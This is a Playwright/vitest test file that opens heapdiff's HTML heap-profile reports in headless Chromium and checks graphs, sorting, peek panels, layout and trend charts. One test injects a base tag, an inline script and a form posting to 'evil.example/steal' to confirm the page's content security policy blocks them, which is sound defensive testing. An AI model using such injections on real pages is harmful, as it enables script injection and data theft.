import { mkdirSync, mkdtempSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHROMIUM, hasChromium, launchChromium } from '../../test-support/chromium.js';
import { runCli } from '../../test-support/fake-io.js';
import { formatSigned, scaledLabel } from '../../format/units.js';

interface PeekEdge {
  readonly name: string;
  readonly cum: number;
  readonly inline: boolean;
}

const go = (n: string) => `testdata/go/leakysvc/profiles/heap-${n}.pb.gz`;
const tenants = (n: string) => `testdata/go/tenants/profiles/heap-${n}.pb.gz`;
const LEAK = 'main.(*dedupeCache).remember';
/** `npm run screenshots` points this at docs/; otherwise the pictures go to a scratch folder. */
const SHOTS = resolve(process.env['HEAPDIFF_SCREENSHOTS'] ?? mkdtempSync(join(tmpdir(), 'heapdiff-shots-')));

const title = hasChromium
  ? 'HTML reports in headless Chromium'
  : `HTML reports in headless Chromium — SKIPPED: ${CHROMIUM} is not installed (apt-get install chromium)`;

describe.skipIf(!hasChromium)(title, () => {
  const dir = mkdtempSync(join(tmpdir(), 'heapdiff-browser-'));
  let browser: Browser;

  beforeAll(async () => {
    mkdirSync(SHOTS, { recursive: true });
    const reports: string[][] = [
      ['top', '-n', '15', go('01'), go('08')],
      ['list', 'dedupeCache', '--source-path', 'testdata/go', go('01'), go('08')],
      ['trend', '--limit', '100MB', go('0*')],
      ['top', tenants('01'), tenants('06')],
      ['top', 'testdata/go/fleet/base', 'testdata/go/fleet/current'],
    ];
    for (const [k, argv] of reports.entries()) {
      const name = k === 3 ? 'top-peek' : k === 4 ? 'top-sets' : argv[0]!;
      const result = await runCli([...argv, '--format', 'html', '--output', join(dir, `${name}.html`)]);
      expect(result.code, result.stderr).toBe(0);
    }
    browser = await launchChromium();
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
  });

  /** Opens a report as a person would, from file://, recording script errors and every request. */
  async function open(name: string, check: (page: Page) => Promise<void>): Promise<void> {
    const context = await browser.newContext({ viewport: { width: 1600, height: 560 }, deviceScaleFactor: 1 });
    const page = await context.newPage();
    const errors: string[] = [];
    const requests: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    page.on('console', (m) => {
      if (m.type() === 'error') errors.push(m.text());
    });
    page.on('request', (r) => requests.push(r.url()));
    const url = pathToFileURL(join(dir, `${name}.html`)).href;
    try {
      await page.goto(url);
      await check(page);
      // The whole page, as tall as its content (at least the viewport).
      await page.screenshot({ path: join(SHOTS, `${name}.png`), fullPage: true });
      expect(errors).toEqual([]);
      expect(requests.filter((r) => r !== url)).toEqual([]);
    } finally {
      await context.close();
    }
    expect(statSync(join(SHOTS, `${name}.png`)).size).toBeGreaterThan(20_000);
  }

  it('top: the leak is in the icicle and the table, hover tells its numbers, search and sorting work', async () => {
    await open('top', async (page) => {
      const box = page.locator('#icicle .box', { hasText: LEAK });
      await expect.poll(() => box.count()).toBe(1);
      await expect.poll(() => page.locator('#top-table tbody tr').first().textContent()).toContain(LEAK);

      await box.hover();
      const detail = page.locator('#detail');
      expect(await detail.textContent()).toContain('7.75MB → 63.66MB');
      expect(await detail.textContent()).toContain('Δ +55.91MB');

      await page.fill('#search', 'dedupe');
      expect(await page.locator('#matches').textContent()).toMatch(/^[1-9]\d* box(es)? match$/);
      expect(await page.locator('#icicle .box.match').count()).toBeGreaterThan(0);
      expect(await page.locator('#icicle .box.match').first().textContent()).toContain('dedupe');
      await page.fill('#search', '');

      // Header buttons sort, by mouse and by keyboard; a second press turns the order round.
      const column = (key: string) => page.locator('#top-table tbody tr').evaluateAll((rows, k) => rows.map((r) => (r as HTMLElement).dataset[k]!), key);
      await page.click('button[data-sort="cum"]');
      const cums = (await column('cum')).map(Number);
      expect(cums).toEqual([...cums].sort((a, b) => b - a));
      expect(await page.locator('th[aria-sort="descending"] button[data-sort="cum"]').count()).toBe(1);
      await page.focus('button[data-sort="name"]');
      await page.keyboard.press('Enter');
      const names = await column('name');
      expect(names).toEqual([...names].sort());
      await page.keyboard.press('Enter');
      expect(await column('name')).toEqual([...names].reverse());
      await page.click('button[data-sort="flat"]');
      expect((await column('flat')).map(Number)).toEqual((await column('flat')).map(Number).sort((a, b) => b - a));

      // A focused row finds its function in the graph.
      const first = page.locator('#top-table tbody tr').first();
      await first.focus();
      await page.keyboard.press('Enter');
      expect(await page.inputValue('#search')).toBe(LEAK);
      expect(await page.locator('#icicle .box.match').count()).toBeGreaterThan(0);
      await page.fill('#search', '');

      // Click zooms in, the breadcrumb says where, and its first crumb zooms back out.
      await box.click();
      expect(await page.locator('#crumbs [aria-current]').textContent()).toBe(LEAK);
      await page.click('#crumbs button >> nth=0');
      expect(await page.locator('#crumbs [aria-current]').textContent()).toBe('all');
      await page.check('input[value="growth"]');
      expect(await box.count()).toBe(1);
      await page.check('input[value="extent"]');
      await box.hover();
    });
  });

  it('top: selecting a row (click, Enter or Space) shows its callers and callees, the peek report’s', async () => {
    /** What `heapdiff peek` reports for one function, as the page should show it. */
    const expected = async (fn: string) => {
      const result = await runCli(['peek', '-f', 'json', `^${fn.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`, tenants('01'), tenants('06')]);
      expect(result.code, result.stderr).toBe(0);
      const [entry] = JSON.parse(result.stdout).entries as Array<{ callers: PeekEdge[]; callees: PeekEdge[] }>;
      const shown = (arrow: string, edges: PeekEdge[]) => edges.map((e) => [formatSigned(e.cum, 'bytes'), `${arrow} ${e.name}${e.inline ? ' (inline)' : ''}`]);
      return { callers: shown('←', entry!.callers), callees: shown('→', entry!.callees) };
    };
    const shown = (page: Page, kind: string) =>
      page.locator(`#peek table.${kind} tbody tr`).evaluateAll((rows) => rows.map((r) => [(r as HTMLTableRowElement).cells[0]!.textContent, (r as HTMLTableRowElement).cells[2]!.textContent]));
    await open('top-peek', async (page) => {
      const small = page.locator('#top-table tbody tr', { hasText: 'main.small' });
      await small.click();
      expect(await small.getAttribute('aria-current')).toBe('true');
      expect(await page.locator('#peek .name').textContent()).toBe('main.small (inline)');
      const want = await expected('main.small');
      expect(want.callers.map((c) => c[1])).toEqual(['← main.indexDocument (inline)', '← main.buildTree (inline)', '← main.(*sessionCache).put (inline)']);
      expect(await shown(page, 'callers')).toEqual(want.callers);
      expect(await page.locator('#peek table.callees').count()).toBe(0);
      // The graph finds it too, as before.
      expect(await page.inputValue('#search')).toBe('main.small');

      // By keyboard: Space on a focused row selects it, Enter too.
      const index = page.locator('#top-table tbody tr', { hasText: 'main.indexDocument' });
      await index.focus();
      await page.keyboard.press('Space');
      expect(await index.getAttribute('aria-current')).toBe('true');
      expect(await small.getAttribute('aria-current')).toBeNull();
      const wantIndex = await expected('main.indexDocument');
      expect(await shown(page, 'callers')).toEqual(wantIndex.callers);
      expect(await shown(page, 'callees')).toEqual(wantIndex.callees);
      const handle = page.locator('#top-table tbody tr', { hasText: 'main.(*service).handle' });
      await handle.focus();
      await page.keyboard.press('Enter');
      expect(await shown(page, 'callees')).toEqual((await expected('main.(*service).handle')).callees);
      await small.click();
    });
  });

  it('top of two sets: the icicle and the peek of a selected row are the per-profile means', async () => {
    const result = await runCli(['peek', '-f', 'json', 'remember$', 'testdata/go/fleet/base', 'testdata/go/fleet/current']);
    const [entry] = JSON.parse(result.stdout).entries as Array<{ base: { cum: number }; current: { cum: number }; callers: PeekEdge[] }>;
    await open('top-sets', async (page) => {
      const box = page.locator('#icicle .box', { hasText: LEAK });
      await expect.poll(() => box.count()).toBe(1);
      await box.hover();
      // The box's total is the leak's mean cum on each side, as the table and peek give it.
      expect(await page.locator('#detail').textContent()).toContain(`${scaledLabel(entry!.base.cum, 'bytes')} → ${scaledLabel(entry!.current.cum, 'bytes')}`);
      const row = page.locator('#top-table tbody tr', { hasText: LEAK });
      await row.click();
      const callers = await page.locator('#peek table.callers tbody tr').evaluateAll((rows) => rows.map((r) => [(r as HTMLTableRowElement).cells[0]!.textContent, (r as HTMLTableRowElement).cells[2]!.textContent]));
      expect(callers).toEqual(entry!.callers.map((e) => [formatSigned(e.cum, 'bytes'), `← ${e.name}${e.inline ? ' (inline)' : ''}`]));
      expect(callers.length).toBeGreaterThan(0);
    });
  });

  it('top: every column of the table is in view at common screen widths, the table first when stacked', async () => {
    for (const name of ['top', 'top-sets']) {
      for (const width of [1280, 1400, 1600, 1920]) {
        const page = await browser.newPage({ viewport: { width, height: 800 } });
        try {
          await page.goto(pathToFileURL(join(dir, `${name}.html`)).href);
          const fit = await page.locator('.table-wrap').evaluate((wrap) => ({ scroll: wrap.scrollWidth, client: wrap.clientWidth }));
          expect(fit.scroll, `${name} at ${width} px`).toBeLessThanOrEqual(fit.client);
          const change = await page.locator('#top-table thead th').last().boundingBox();
          expect(change!.x + change!.width, `${name} at ${width} px`).toBeLessThanOrEqual(width);
          // Side by side, or the table above the graph: never the graph alone in the first screen.
          const table = await page.locator('.table-pane').boundingBox();
          const graph = await page.locator('.flame-pane').boundingBox();
          expect(table!.y <= graph!.y || table!.x > graph!.x, `${name} at ${width} px`).toBe(true);
        } finally {
          await page.close();
        }
      }
    }
  });

  it('list: the source lines carry the text report’s per-line numbers', async () => {
    await open('list', async (page) => {
      const line = page.locator('tr.hot', { hasText: 'fp := make([]byte, fingerprintSize)' });
      expect(await line.locator('td.num').allTextContents()).toEqual(['+54.69MB', '19.20kB', '+54.69MB', '19.20kB', '27']);
    });
  });

  it('the content security policy refuses navigation and any script but the page’s own', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    const url = pathToFileURL(join(dir, 'top.html')).href;
    try {
      await page.goto(url);
      await expect.poll(() => page.locator('#icicle .box').count()).toBeGreaterThan(0);
      // What a name would do if it ever got past the escaping: a form, a <base>, a script, a refresh.
      const violations = await page.evaluate(async () => {
        const seen: string[] = [];
        document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.append(base);
        const script = document.createElement('script');
        script.textContent = 'window.pwned = true';
        document.body.append(script);
        const form = document.createElement('form');
        form.action = 'https://evil.example/steal';
        form.method = 'get';
        document.body.append(form);
        form.submit();
        await new Promise((r) => setTimeout(r, 300));
        return { seen, pwned: (window as unknown as { pwned?: boolean }).pwned === true, base: document.baseURI };
      });
      await page.waitForTimeout(300);
      expect(page.url()).toBe(url);
      expect(violations.pwned).toBe(false);
      expect(violations.base).toBe(url);
      expect(violations.seen).toEqual(expect.arrayContaining(['base-uri', 'script-src-elem', 'form-action']));
      expect(requests.filter((r) => r !== url)).toEqual([]);
      expect(await page.locator('meta[http-equiv="refresh" i]').count()).toBe(0);
    } finally {
      await context.close();
    }
  });

  it('trend: one chart point per snapshot, the projection, and a leak card for the leak', async () => {
    await open('trend', async (page) => {
      expect(await page.locator('#total-chart circle.snapshot').count()).toBe(8);
      expect(await page.locator('#total-chart .projection').count()).toBe(1);
      const card = page.locator('article.site', { hasText: LEAK });
      expect(await card.locator('.verdict').textContent()).toBe('leak');
      expect(await card.locator('svg.spark circle').count()).toBe(8);
    });
  });
});
